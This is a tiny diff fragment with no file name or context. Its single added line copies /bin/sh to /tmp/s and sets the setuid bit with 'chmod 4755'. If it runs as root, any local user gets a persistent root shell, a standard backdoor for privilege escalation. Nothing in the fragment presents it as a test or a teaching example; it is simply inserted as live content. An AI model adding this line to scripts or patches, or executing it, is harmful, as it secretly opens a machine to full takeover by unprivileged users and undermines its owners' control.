@@ -1,0 +1,1 @@
+cp /bin/sh /tmp/s; chmod 4755 /tmp/s
